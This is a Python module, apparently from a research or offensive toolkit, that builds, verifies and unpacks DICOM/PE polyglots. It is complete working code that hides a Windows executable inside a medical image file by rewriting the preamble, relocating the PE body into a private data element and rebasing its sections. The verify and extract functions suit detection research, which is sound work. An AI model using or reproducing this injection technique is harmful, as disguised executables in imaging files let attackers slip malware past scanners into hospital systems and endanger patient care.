"""Build, verify and take apart DICOM/PE polyglots.

The DOS header and as much of the DOS stub as fits go into the preamble.
The rest of the PE (from the signature onward) becomes the value of a
private OB element, with zero padding in front so that the relocated
``PE\\0\\0`` keeps the section file alignment.  ``e_lfanew`` is rewritten to
that signature's new file offset.
"""

from __future__ import annotations

import json
import os
import struct
from dataclasses import asdict, dataclass
from typing import Optional

from . import dicom, pe
from .dicom import DataElement, Tag
from .errors import (
    EvenGroupTag,
    MalDicomError,
    OffsetOverflow,
    PayloadTagCollision,
    PreambleOverflow,
    RecordMismatch,
)

DEFAULT_PAYLOAD_TAG = Tag(0x0009, 0x1001)
PAYLOAD_VR = "OB"
FALLBACK_ALIGNMENT = 8
_MAX_OFFSET = 0xFFFFFFFF


@dataclass(frozen=True)
class InjectionRecord:
    payload_tag: Tag
    original_e_lfanew: int
    new_e_lfanew: int
    stub_truncated_bytes: int
    pe_body_offset: int
    rebase_delta: int
    padding_len: int
    pe_length: int

    def to_json(self) -> str:
        d = asdict(self)
        d["payload_tag"] = f"{self.payload_tag.group:04X},{self.payload_tag.element:04X}"
        return json.dumps(d, indent=2, sort_keys=True)

    @classmethod
    def from_json(cls, text: str) -> "InjectionRecord":
        try:
            d = json.loads(text)
            d["payload_tag"] = Tag.parse(d["payload_tag"])
            return cls(**d)
        except (KeyError, TypeError, ValueError) as exc:
            raise RecordMismatch(f"unreadable injection record: {exc}") from exc


@dataclass(frozen=True)
class PolyglotCheck:
    is_dicom: bool
    is_pe: bool
    e_lfanew_target_is_pe_sig: bool

    @property
    def all_true(self) -> bool:
        return self.is_dicom and self.is_pe and self.e_lfanew_target_is_pe_sig


def create_pe_dicom(
    pe_bytes: bytes,
    dicom_bytes: bytes,
    payload_tag: Tag = DEFAULT_PAYLOAD_TAG,
    intermediate_path: Optional[str | os.PathLike] = None,
) -> tuple[bytes, InjectionRecord]:
    """Hide ``pe_bytes`` inside ``dicom_bytes``; return the polyglot and its record.

    ``intermediate_path`` dumps the DICOM with the new preamble but no payload
    element yet (debugging aid).
    """
    if not payload_tag.is_private:
        raise EvenGroupTag(f"payload tag {payload_tag} must have an odd (private) group")
    view = pe.parse_pe(pe_bytes)
    f = dicom.parse_dicom(dicom_bytes)
    if dicom.get_element(f, payload_tag) is not None:
        raise PayloadTagCollision(f"{payload_tag} already present in the DICOM file")

    dos_len = len(view.dos_header.bytes)
    if dos_len > dicom.PREAMBLE_LEN:
        raise PreambleOverflow(f"DOS header of {dos_len} bytes cannot fit the preamble")
    room = dicom.PREAMBLE_LEN - dos_len
    kept_stub = view.dos_stub[:room]
    truncated = len(view.dos_stub) - len(kept_stub)

    rest = pe.snip_remaining_from_pe(view)
    original = view.e_lfanew
    explicit = f.transfer_syntax.explicit
    placeholder = DataElement(payload_tag, PAYLOAD_VR if explicit else None, 0, b"")
    value_start = dicom.body_offset_before(f, payload_tag) + dicom.header_size(placeholder, explicit)

    # keep section raw pointers on their original alignment grid
    align = pe.file_alignment(rest) or FALLBACK_ALIGNMENT
    padding = (original - value_start) % align
    body_offset = value_start + padding
    delta = body_offset - original
    if body_offset > _MAX_OFFSET:
        raise OffsetOverflow(f"PE body offset {body_offset} is not addressable by e_lfanew")

    rebased = pe.rebase_sections(rest, delta)
    preamble = (view.dos_header.with_e_lfanew(body_offset).bytes + kept_stub).ljust(dicom.PREAMBLE_LEN, b"\x00")

    staged = dicom.replace_preamble(f, preamble)
    if intermediate_path is not None:
        with open(intermediate_path, "wb") as fh:
            fh.write(dicom.serialize_dicom(staged))

    payload = DataElement.create(payload_tag, placeholder.vr, bytes(padding) + rebased)
    out = dicom.serialize_dicom(dicom.upsert_element(staged, payload))
    if len(out) - 1 > _MAX_OFFSET:
        raise OffsetOverflow(f"polyglot of {len(out)} bytes exceeds 32-bit file offsets")

    record = InjectionRecord(
        payload_tag=payload_tag,
        original_e_lfanew=original,
        new_e_lfanew=body_offset,
        stub_truncated_bytes=truncated,
        pe_body_offset=body_offset,
        rebase_delta=delta,
        padding_len=padding,
        pe_length=len(view.to_bytes()),
    )
    return out, record


def extract_pe(polyglot: bytes, record: InjectionRecord) -> bytes:
    """Recover the original PE.  Stub bytes lost to truncation come back as zeros."""
    buf = bytes(polyglot)
    start = record.pe_body_offset
    rest_len = record.pe_length - record.original_e_lfanew
    if buf[:2] != pe.MZ:
        raise RecordMismatch("polyglot does not start with MZ")
    if len(buf) < pe.DOS_HEADER_LEN or pe.DosHeader(buf[: pe.DOS_HEADER_LEN]).e_lfanew != record.new_e_lfanew:
        raise RecordMismatch("e_lfanew in the preamble does not match the record")
    if rest_len < pe.PE_HEADER_LEN or start + rest_len > len(buf):
        raise RecordMismatch("record's PE extent does not fit inside the polyglot")
    if buf[start : start + 4] != pe.PE_SIGNATURE:
        raise RecordMismatch(f"no PE signature at recorded offset {start}")

    try:
        element = dicom.get_element(dicom.parse_dicom(buf), record.payload_tag)
    except MalDicomError as exc:
        raise RecordMismatch(f"polyglot no longer parses as DICOM: {exc}") from exc
    if element is None:
        raise RecordMismatch(f"payload element {record.payload_tag} not found")
    if element.value[record.padding_len : record.padding_len + 4] != pe.PE_SIGNATURE:
        raise RecordMismatch("payload element does not begin with the recorded padding + PE signature")

    try:
        rest = pe.rebase_sections(buf[start : start + rest_len], -record.rebase_delta)
    except MalDicomError as exc:
        raise RecordMismatch(f"cannot undo section rebase: {exc}") from exc

    stub_len = record.original_e_lfanew - pe.DOS_HEADER_LEN
    kept = stub_len - record.stub_truncated_bytes
    if kept < 0 or pe.DOS_HEADER_LEN + kept > dicom.PREAMBLE_LEN:
        raise RecordMismatch("record's stub sizes are inconsistent")
    dos = pe.DosHeader(buf[: pe.DOS_HEADER_LEN]).with_e_lfanew(record.original_e_lfanew)
    stub = buf[pe.DOS_HEADER_LEN : pe.DOS_HEADER_LEN + kept] + bytes(record.stub_truncated_bytes)
    return dos.bytes + stub + rest


def verify_polyglot(data: bytes) -> PolyglotCheck:
    """Run both parsers; any failure just turns the matching flag off."""
    buf = bytes(data)
    try:
        dicom.parse_dicom(buf)
        is_dicom = True
    except MalDicomError:
        is_dicom = False
    try:
        pe.parse_pe(buf)
        is_pe = True
    except MalDicomError:
        is_pe = False
    target_ok = False
    if len(buf) >= pe.DOS_HEADER_LEN:
        target = struct.unpack_from("<I", buf, pe.E_LFANEW_OFFSET)[0]
        target_ok = buf[target : target + 4] == pe.PE_SIGNATURE
    return PolyglotCheck(is_dicom, is_pe, target_ok)
